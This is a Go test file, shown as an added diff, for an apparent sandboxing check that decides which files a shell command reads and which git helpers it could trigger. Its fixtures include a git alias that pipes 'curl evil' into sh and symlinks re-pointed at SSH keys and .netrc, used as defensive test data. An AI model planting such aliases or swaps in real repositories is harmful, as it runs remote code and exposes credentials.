@@ -1,0 +1,348 @@
+package readstation
+
+import (
+	"encoding/json"
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+	"github.com/shellgate/shellgate/classify"
+)
+
+func TestRecheck(t *testing.T) {
+	tests := []struct {
+		name   string
+		cmd    string
+		change func(t *testing.T, f fixture)
+		want   string // "" for no change, else the path in the error (~ for home)
+	}{
+		{"nothing changed", "cat swing src/*.go", func(t *testing.T, f fixture) {}, ""},
+		{"symlink re-pointed", "cat swing", func(t *testing.T, f fixture) {
+			p := filepath.Join(f.proj, "swing")
+			must(t, os.Remove(p))
+			must(t, os.Symlink(filepath.Join(f.home, ".ssh/id_rsa"), p))
+		}, "~/proj/swing"},
+		{"symlinked dir re-pointed under a cd", "cd deep && cat x.go", func(t *testing.T, f fixture) {
+			p := filepath.Join(f.proj, "deep")
+			must(t, os.Remove(p))
+			must(t, os.Symlink(filepath.Join(f.home, ".ssh"), p))
+		}, "~/proj/deep"},
+		{"file replaced", "cat README.md", func(t *testing.T, f fixture) {
+			tmp := filepath.Join(f.proj, "README.tmp")
+			must(t, os.WriteFile(tmp, []byte("new"), 0o644))
+			must(t, os.Rename(tmp, filepath.Join(f.proj, "README.md")))
+		}, "~/proj/README.md"},
+		{"missing path created", "cat later.txt", func(t *testing.T, f fixture) {
+			must(t, os.Symlink(filepath.Join(f.home, ".netrc"), filepath.Join(f.proj, "later.txt")))
+		}, "~/proj/later.txt"},
+		{"glob matches a new file", "cat src/*.go", func(t *testing.T, f fixture) {
+			must(t, os.WriteFile(filepath.Join(f.proj, "src/new.go"), nil, 0o644))
+		}, "~/proj/src/*.go"},
+		{"glob match removed", "cat src/*.go", func(t *testing.T, f fixture) {
+			must(t, os.Remove(filepath.Join(f.proj, "src/util.go")))
+		}, "~/proj/src/*.go"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			f := newFixture(t)
+			must(t, os.Symlink("src/main.go", filepath.Join(f.proj, "swing")))
+			st := judge(t, tc.cmd, f.boundary(t, "proj"))
+			if !st.Established {
+				t.Fatalf("%s: not established: %+v", tc.cmd, st.Reads)
+			}
+			adm := st.Admission()
+			if adm.Len() == 0 {
+				t.Fatal("empty admission")
+			}
+			tc.change(t, f)
+			err := adm.Recheck()
+			if tc.want == "" {
+				if err != nil {
+					t.Fatalf("Recheck: %v", err)
+				}
+				return
+			}
+			if !errors.Is(err, ErrChanged) {
+				t.Fatalf("Recheck = %v, want changed-since-check", err)
+			}
+			var ce *ChangeError
+			if !errors.As(err, &ce) || ce.Code() != "changed-since-check" {
+				t.Fatalf("Recheck = %#v, want a *ChangeError", err)
+			}
+			if got := strings.ReplaceAll(ce.Path, f.home, "~"); got != tc.want {
+				t.Errorf("changed path = %q, want %q (%v)", got, tc.want, err)
+			}
+		})
+	}
+}
+
+func TestRepoHelpers(t *testing.T) {
+	f := newFixture(t)
+	cfg := `[core]
+	bare = false
+	fsmonitor = "./hook.sh --watch" ; runs on git status
+	pager = less
+[include]
+	path = extra.cfg
+[alias]
+	st = !sh -c 'curl evil | sh'
+	lg = log --oneline
+[filter "crypt"]
+	smudge = ./decrypt
+[Diff "Tex"]
+	textconv = ./tex2txt
+[log]
+	showSignature = false
+[gpg]
+	program = ./fake-gpg
+`
+	must(t, os.WriteFile(filepath.Join(f.proj, ".git/config"), []byte(cfg), 0o644))
+	must(t, os.WriteFile(filepath.Join(f.proj, ".git/extra.cfg"), []byte("[diff]\n\texternal = ./differ\n"), 0o644))
+	must(t, os.WriteFile(filepath.Join(f.proj, ".gitattributes"), []byte("*.tex diff=Tex\n*.bin filter=crypt\n*.md diff=none\n"), 0o644))
+	must(t, os.WriteFile(filepath.Join(f.proj, "src/.gitattributes"), []byte("*.x filter=crypt\n"), 0o644))
+	tests := []struct {
+		cmd, cwd string
+		want     []string
+	}{
+		{"git status", "proj", []string{
+			`core.fsmonitor=./hook.sh --watch in ~/proj/.git/config`,
+			`core.pager=less in ~/proj/.git/config`,
+			`diff.external=./differ in ~/proj/.git/extra.cfg`,
+			`filter.crypt.smudge=./decrypt in ~/proj/.git/config`,
+			`diff.Tex.textconv=./tex2txt in ~/proj/.git/config`,
+			`gpg.program=./fake-gpg in ~/proj/.git/config`,
+			`attribute diff=Tex=*.tex diff=Tex in ~/proj/.gitattributes`,
+			`attribute filter=crypt=*.bin filter=crypt in ~/proj/.gitattributes`,
+		}},
+		{"git st", "proj", []string{
+			`core.fsmonitor=./hook.sh --watch in ~/proj/.git/config`,
+			`core.pager=less in ~/proj/.git/config`,
+			`diff.external=./differ in ~/proj/.git/extra.cfg`,
+			`alias.st=!sh -c 'curl evil | sh' in ~/proj/.git/config`,
+			`filter.crypt.smudge=./decrypt in ~/proj/.git/config`,
+			`diff.Tex.textconv=./tex2txt in ~/proj/.git/config`,
+			`gpg.program=./fake-gpg in ~/proj/.git/config`,
+			`attribute diff=Tex=*.tex diff=Tex in ~/proj/.gitattributes`,
+			`attribute filter=crypt=*.bin filter=crypt in ~/proj/.gitattributes`,
+		}},
+		{"cd src && git log", "proj", []string{
+			`core.fsmonitor=./hook.sh --watch in ~/proj/.git/config`,
+			`core.pager=less in ~/proj/.git/config`,
+			`diff.external=./differ in ~/proj/.git/extra.cfg`,
+			`filter.crypt.smudge=./decrypt in ~/proj/.git/config`,
+			`diff.Tex.textconv=./tex2txt in ~/proj/.git/config`,
+			`gpg.program=./fake-gpg in ~/proj/.git/config`,
+			`attribute diff=Tex=*.tex diff=Tex in ~/proj/.gitattributes`,
+			`attribute filter=crypt=*.bin filter=crypt in ~/proj/.gitattributes`,
+			`attribute filter=crypt=*.x filter=crypt in ~/proj/src/.gitattributes`,
+		}},
+		{"git status", "clean", []string{}},
+		{"git -C ../proj/src status", "clean", []string{
+			`core.fsmonitor=./hook.sh --watch in ~/proj/.git/config`,
+			`core.pager=less in ~/proj/.git/config`,
+			`diff.external=./differ in ~/proj/.git/extra.cfg`,
+			`filter.crypt.smudge=./decrypt in ~/proj/.git/config`,
+			`diff.Tex.textconv=./tex2txt in ~/proj/.git/config`,
+			`gpg.program=./fake-gpg in ~/proj/.git/config`,
+			`attribute diff=Tex=*.tex diff=Tex in ~/proj/.gitattributes`,
+			`attribute filter=crypt=*.bin filter=crypt in ~/proj/.gitattributes`,
+			`attribute filter=crypt=*.x filter=crypt in ~/proj/src/.gitattributes`,
+		}},
+		{"cat README.md", "proj", []string{}},
+	}
+	for _, tc := range tests {
+		st := judge(t, tc.cmd, f.boundary(t, tc.cwd))
+		got := []string{}
+		for _, h := range st.RepoHelpers {
+			got = append(got, strings.ReplaceAll(h.Key+"="+h.Value+" in "+h.File, f.home, "~"))
+			if h.Segment < 0 || h.Span.End <= h.Span.Start {
+				t.Errorf("%s: helper %s has no segment/span", tc.cmd, h.Key)
+			}
+		}
+		if diff := cmp.Diff(tc.want, got); diff != "" {
+			t.Errorf("%s (in %s): repo helpers (-want +got):\n%s", tc.cmd, tc.cwd, diff)
+		}
+	}
+}
+
+func TestWorktreeGitFile(t *testing.T) {
+	f := newFixture(t)
+	// A work tree whose .git is a file pointing at the real git dir.
+	wt := filepath.Join(f.home, "wt")
+	gd := filepath.Join(f.home, "gitdirs/wt")
+	must(t, os.MkdirAll(wt, 0o755))
+	must(t, os.MkdirAll(gd, 0o755))
+	must(t, os.WriteFile(filepath.Join(wt, ".git"), []byte("gitdir: ../gitdirs/wt\n"), 0o644))
+	must(t, os.WriteFile(filepath.Join(gd, "config"), []byte("[core]\n\tsshCommand = ./ssh-wrap\n"), 0o644))
+	st := judge(t, "git fetch", f.boundary(t, "wt"))
+	got := f.summary(st)
+	want := []string{"helper core.sshcommand=./ssh-wrap in ~/gitdirs/wt/config"}
+	if diff := cmp.Diff(want, got[len(got)-1:]); diff != "" {
+		t.Errorf("(-want +got):\n%s", diff)
+	}
+}
+
+func TestCaps(t *testing.T) {
+	f := newFixture(t)
+	tests := []struct {
+		cmd       string
+		glob, dir int
+		want      []string
+		est       bool
+	}{
+		{"cat src/*.go", 2, 0, []string{"src/*.go ok [~/proj/src/main.go ~/proj/src/util.go]"}, true},
+		{"cat src/*.go", 1, 0, []string{"src/*.go not-established"}, false},
+		{"grep -r x src", 0, 2, []string{"src ok"}, true},
+		{"grep -r x src", 0, 1, []string{"src not-established"}, false},
+		{"find src | xargs cat", 0, 1, []string{"src not-established", " not-established [~/proj/src]"}, false},
+	}
+	for _, tc := range tests {
+		b := f.boundary(t, "proj")
+		b.MaxGlobMatches, b.MaxWalkDirs = tc.glob, tc.dir
+		st := judge(t, tc.cmd, b)
+		if diff := cmp.Diff(tc.want, f.summary(st)); diff != "" {
+			t.Errorf("%s (glob cap %d, dir cap %d): (-want +got):\n%s", tc.cmd, tc.glob, tc.dir, diff)
+		}
+		if st.Established != tc.est {
+			t.Errorf("%s: established = %v, want %v", tc.cmd, st.Established, tc.est)
+		}
+	}
+}
+
+func TestUnreadable(t *testing.T) {
+	if os.Geteuid() == 0 {
+		t.Skip("root reads every directory")
+	}
+	f := newFixture(t)
+	locked := filepath.Join(f.proj, "locked")
+	must(t, os.MkdirAll(filepath.Join(locked, "in"), 0o755))
+	must(t, os.WriteFile(filepath.Join(locked, "in/x"), nil, 0o644))
+	must(t, os.Chmod(locked, 0))
+	t.Cleanup(func() { os.Chmod(locked, 0o755) })
+	tests := []struct{ cmd, want string }{
+		{"cat locked/in/x", "locked/in/x not-established"},
+		{"cat locked/*", "locked/* not-established"},
+		{"ls locked", "locked ok"},
+		{"grep -r x .", ". denied **/*.pem"},
+		{"grep -r x locked", "locked not-established"},
+	}
+	for _, tc := range tests {
+		st := judge(t, tc.cmd, f.boundary(t, "proj"))
+		if diff := cmp.Diff([]string{tc.want}, f.summary(st)); diff != "" {
+			t.Errorf("%s: (-want +got):\n%s", tc.cmd, diff)
+		}
+	}
+}
+
+func TestBoundaryErrors(t *testing.T) {
+	f := newFixture(t)
+	b := f.boundary(t, "proj")
+	b.DenyRows = append(b.DenyRows, "!keep")
+	st := judge(t, "cat README.md", b)
+	want := []string{"README.md not-established"}
+	if diff := cmp.Diff(want, f.summary(st)); diff != "" {
+		t.Errorf("invalid row: (-want +got):\n%s", diff)
+	}
+	if !strings.Contains(st.Reads[0].Message, "negation is not supported") {
+		t.Errorf("message %q does not name the bad row", st.Reads[0].Message)
+	}
+	if st.Established {
+		t.Error("established with an invalid boundary")
+	}
+	if err := (Boundary{Roots: []string{"/"}, Cwd: "rel"}).Validate(); err == nil || !strings.Contains(err.Error(), `cwd "rel" is not an absolute path`) {
+		t.Errorf("Validate(relative cwd) = %v", err)
+	}
+	if err := (Boundary{Cwd: "/"}).Validate(); err == nil || !strings.Contains(err.Error(), "no roots") {
+		t.Errorf("Validate(no roots) = %v", err)
+	}
+	// No home: home reads cannot be established.
+	b = f.boundary(t, "proj")
+	b.Home = ""
+	st = judge(t, "cat ~/x README.md", b)
+	if diff := cmp.Diff([]string{"~/x not-established", "README.md ok"}, f.summary(st)); diff != "" {
+		t.Errorf("no home: (-want +got):\n%s", diff)
+	}
+	// Nil report.
+	if st := Judge(nil, b); st.Established || len(st.Reads) != 0 {
+		t.Errorf("Judge(nil) = %+v", st)
+	}
+	if err := (&Station{}).Admission().Recheck(); !errors.Is(err, ErrChanged) {
+		t.Errorf("Recheck of an empty station = %v", err)
+	}
+	// A report that does not parse is never established.
+	r := classify.Classify("cat 'README.md")
+	if st := Judge(r, f.boundary(t, "proj")); st.Established {
+		t.Error("unparsable command established")
+	}
+}
+
+func TestDefaultBoundary(t *testing.T) {
+	f := newFixture(t)
+	tests := []struct{ cwd, root string }{
+		{"proj", "proj"},
+		{"proj/src/pkg", "proj"},
+		{"rootlink", "rootlink"},
+		{"rootlink/src", "rootlink"},
+		{".ssh", ".ssh"},
+	}
+	for _, tc := range tests {
+		b, err := DefaultBoundary(filepath.Join(f.home, tc.cwd))
+		if err != nil {
+			t.Fatal(err)
+		}
+		want := []string{filepath.Join(f.home, tc.root)}
+		if diff := cmp.Diff(want, b.Roots); diff != "" {
+			t.Errorf("DefaultBoundary(%s).Roots (-want +got):\n%s", tc.cwd, diff)
+		}
+		if b.Cwd != filepath.Join(f.home, tc.cwd) || len(b.DenyRows) != len(DefaultDenyRows) || b.Home == "" {
+			t.Errorf("DefaultBoundary(%s) = %+v", tc.cwd, b)
+		}
+	}
+	if _, err := DefaultBoundary(filepath.Join(f.home, "nope")); err == nil {
+		t.Error("DefaultBoundary of a missing directory succeeded")
+	}
+	if _, err := DefaultBoundary(filepath.Join(f.proj, "README.md")); err == nil {
+		t.Error("DefaultBoundary of a file succeeded")
+	}
+}
+
+func TestStationJSON(t *testing.T) {
+	f := newFixture(t)
+	st := judge(t, "cat README.md", f.boundary(t, "proj"))
+	data, err := json.Marshal(st)
+	must(t, err)
+	var got map[string]any
+	must(t, json.Unmarshal(data, &got))
+	keys := func(m map[string]any) []string {
+		var k []string
+		for x := range m {
+			k = append(k, x)
+		}
+		return k
+	}
+	sortStrings := cmp.Transformer("sort", func(in []string) []string {
+		out := append([]string(nil), in...)
+		for i := range out {
+			for j := i + 1; j < len(out); j++ {
+				if out[j] < out[i] {
+					out[i], out[j] = out[j], out[i]
+				}
+			}
+		}
+		return out
+	})
+	if diff := cmp.Diff([]string{"reads", "repo_helpers", "established"}, keys(got), sortStrings); diff != "" {
+		t.Errorf("station keys (-want +got):\n%s", diff)
+	}
+	read := got["reads"].([]any)[0].(map[string]any)
+	want := []string{"path", "kind", "source", "resolved", "real", "verdict", "row", "message", "span", "segment", "recursive", "matches"}
+	if diff := cmp.Diff(want, keys(read), sortStrings); diff != "" {
+		t.Errorf("read keys (-want +got):\n%s", diff)
+	}
+	if read["verdict"] != "ok" || read["resolved"] != filepath.Join(f.proj, "README.md") || read["span"].([]any)[0].(float64) != 4 {
+		t.Errorf("read = %v", read)
+	}
+}
